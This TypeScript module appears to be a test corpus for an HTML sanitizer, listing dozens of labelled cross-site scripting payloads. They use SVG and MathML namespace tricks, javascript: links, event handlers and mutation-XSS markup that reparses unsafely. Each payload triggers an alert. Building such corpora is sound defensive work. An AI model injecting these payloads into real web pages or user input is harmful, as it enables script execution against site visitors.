import { payloads } from './payload.ts'

/** SVG and MathML: content of other namespaces, and elements that switch between these and HTML. */
export const FOREIGN = payloads({
  'an SVG that loads': "<svg onload=alert('svg')></svg>",
  'an SVG in mixed case': "<sVg/oNlOaD=alert('svg-case')>",
  'a click on a group of an SVG': "<svg><g onclick=alert('group')><rect width=9 height=9 /></g></svg>",
  'a link of an SVG': '<svg><a href="javascript:alert(\'svg link\')"><text y=9>Chart</text></a></svg>',
  'a link of an SVG by the old name': '<svg><a xlink:href="javascript:alert(\'xlink\')"><circle r=9 /></a></svg>',
  'an address that SVG animates':
    '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text>Q</text></a></svg>',
  'an address that SVG sets':
    '<svg><a><set attributeName=xlink:href to="javascript:alert(1)" /><text>Q</text></a></svg>',
  'an SVG animation that begins': '<svg><animate attributeName=x dur=1s onbegin="alert(\'begin\')" /></svg>',
  'an SVG transformation that repeats':
    '<svg><animateTransform attributeName=transform onrepeat="alert(\'repeat\')" /></svg>',
  'an SVG motion that ends': '<svg><animateMotion onend="alert(\'end\')" /></svg>',
  'the discard element of SVG': '<svg><discard onbegin="alert(\'discard\')" /></svg>',
  'focus within an SVG': '<svg><text tabindex=0 onfocusin="alert(\'focus in\')">x</text></svg>',
  'a script of an SVG': "<svg><script>alert('svg script')</script></svg>",
  'a script of an SVG by its address': '<svg><script href="data:text/javascript,alert(1)" /></svg>',
  'a script of an SVG in character references': '<svg><script>&#97;lert(&#39;references&#39;)</script></svg>',
  'a prefix for XHTML': '<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>',
  'a picture in an SVG': '<svg><image href=missing onerror="alert(\'svg image\')" /></svg>',
  'a picture in an SVG from elsewhere': '<svg><image href="https://pictures.example/track.png" /></svg>',
  'an SVG filter with a picture':
    '<svg><filter id=f><feImage href="https://pictures.example/f.svg" onload="alert(\'filter\')" /></filter></svg>',
  'part of another SVG': '<svg><use href="https://pictures.example/icons.svg#x" onload="alert(\'use\')" /></svg>',
  'part of an SVG in a data address': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /></svg>',
  'HTML inside an SVG': '<svg><foreignObject><img src=missing onerror="alert(\'foreign\')"></foreignObject></svg>',
  'a frame inside an SVG':
    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  'HTML in the title of an SVG': '<svg><title><img src=missing onerror="alert(\'title\')"></title></svg>',
  'HTML in the description of an SVG': '<svg><desc><p onclick="alert(\'description\')">x</p></desc></svg>',
  'a style sheet in an SVG, where it is markup':
    '<svg><style><img src=missing onerror="alert(\'style\')"></style></svg>',
  'a style sheet in an SVG with a comment': '<svg><style>/*</style><img src=missing onerror="alert(\'sheet\')">*/',
  'a paragraph that ends an SVG': '<svg><p><img src=missing onerror="alert(\'p ends svg\')"></p></svg>',
  'an end tag that ends an SVG': '<svg></p><img src=missing onerror="alert(\'end tag\')">',
  'a font with a colour, which ends an SVG':
    '<svg><font color=red><img src=missing onerror="alert(\'font\')"></font></svg>',
  'a font without a colour, which does not':
    '<svg><font x=red><title><b onclick="alert(\'font stays\')">x</b></title></font></svg>',
  'a CDATA section in an SVG': '<svg><![CDATA[</svg><img src=missing onerror="alert(1)">]]></svg>',
  'a CDATA section in HTML, where it is a comment': '<p><![CDATA[><img src=missing onerror="alert(\'cdata\')">]]></p>',
  'an SVG in a table': '<table><svg onload="alert(\'fostered\')"></svg><tr><td>1</td></tr></table>',
  'an SVG in a select': '<select><option><svg onload="alert(\'choice\')"></svg></option></select>',
  'an SVG that is open when a heading ends': '<h2><svg><desc></h2><img src=missing onerror="alert(\'heading\')">',
  'MathML with an address': '<math href="javascript:alert(\'math\')"><mi>r</mi></math>',
  'an identifier of MathML': '<math><mi xlink:href="javascript:alert(1)" onclick="alert(\'letter\')">r</mi></math>',
  'an action of MathML':
    '<math><maction actiontype="statusline" onclick="alert(\'action\')"><mi>r</mi></maction></math>',
  'HTML in a text of MathML': '<math><mtext><img src=missing onerror="alert(\'mtext\')"></mtext></math>',
  'HTML in an annotation of MathML':
    '<math><annotation-xml encoding="text/html"><img src=missing onerror="alert(\'note\')"></annotation-xml></math>',
  'XHTML in an annotation of MathML':
    '<math><annotation-xml encoding="application/xhtml+xml"><b onclick="alert(\'xhtml\')">x</b></annotation-xml></math>',
  'an SVG in an annotation of MathML':
    '<math><annotation-xml><svg onload="alert(\'annotated\')"></svg></annotation-xml></math>',
  'an SVG in MathML in an SVG':
    '<svg><foreignObject><math><mi><svg onload="alert(\'thrice\')"></svg></mi></math></foreignObject></svg>',
  'bold text, which ends MathML': '<math><b><img src=missing onerror="alert(\'b ends math\')"></b></math>',
  'an XML declaration before an SVG':
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'declared\')" />',
  'a document type before an SVG': '<!DOCTYPE svg [<!ENTITY q "alert(1)">]><svg onload="&q;alert(\'typed\')"></svg>',
})

const deep = (tag: string, times: number): string => `<${tag}>`.repeat(times)

/** Markup that a parser reads differently after it was serialised. */
export const MUTATIONS = payloads({
  'a style sheet moved by a table in MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=missing onerror=alert(1)>">',
  'a style end tag inside an attribute, after an SVG':
    '<svg><p><style><b title="</style><img src=missing onerror=alert(\'sheet-ends\')>">',
  'a form that ends inside MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src=missing onerror="alert(\'forms\')">',
  'a malignmark with a style sheet':
    '<math><mtext><table><malignmark><style><a title="</style><img src=missing onerror=alert(1)>">',
  'an xmp that an annotation ends':
    '<math><annotation-xml encoding="text/html"><xmp></annotation-xml><img src=missing onerror="alert(\'xmp\')">',
  'a comment in an SVG that ends in an attribute':
    '<svg><desc><!--</desc><img title="--><img src=missing onerror=alert(1)>">',
  'a comment inside noframes': '<noframes><!--</noframes><img src=missing onerror="alert(\'frames\')">-->',
  'a caption with an SVG in a description':
    '<svg><desc><table><caption><svg><style><a id="</style><img src=missing onerror=alert(1)>">',
  'a paragraph in a paragraph in an SVG':
    '<p><svg><desc><p><style><!--</p><img src=missing onerror="alert(\'paragraphs\')">-->',
  'a link within a link': '<a href="https://a.example/"><table><a href="javascript:alert(\'links\')">x</a></table></a>',
  'links within links, many times': `${'<a href="https://a.example/"><table>'.repeat(30)}<i onclick="alert(\'many\')">x</i>`,
  'bold text that crosses a block': '<b><p></b><i onclick="alert(\'crossed\')"></p>x</i>',
  'cells without a table':
    '<td><tr><caption onclick="alert(1)"><p onclick="alert(\'loose\')">x</p></caption></tr></td>',
  'text before a table': '<table>loose<tr onclick="alert(\'row\')"><p onclick="alert(\'thrown out\')">x<td>1</table>',
  'nesting beyond every limit': `${deep('div', 700)}<img src=missing onerror="alert('deep')">`,
  'inline nesting beyond every limit': `${deep('b', 600)}<svg onload="alert('deep inline')">`,
  'formatting that is copied into each paragraph': `${'<p><b><i><u><s>'.repeat(60)}<em onclick="alert('copied')">x</em>`,
  'an attribute in backquotes': '<p title="``onclick=alert(1)">x</p>',
  'an attribute that ends in a backslash': '<p title="\\" onclick="alert(\'backslash\')">x</p>',
  'a title that holds its own end': '<p title="</p><img src=missing onerror=alert(1)>">x</p>',
  'an image by another name': "<image src=missing onerror=alert('image')>",
  'an end tag that makes an element': "</p onclick=alert(1)></br onclick=alert(1)><u onclick=alert('after')>x</u>",
  'a listing whose first line is dropped': '<listing>\n\n<img src=missing onerror="alert(\'listing\')"></listing>',
  'a ruby text': '<ruby>m<rtc><rt onclick="alert(\'ruby\')">x</rtc></ruby>',
  'a select that shows a copy of an option':
    '<select><button><selectedcontent></selectedcontent></button><option><b onclick="alert(\'copy\')">x</option></select>',
})
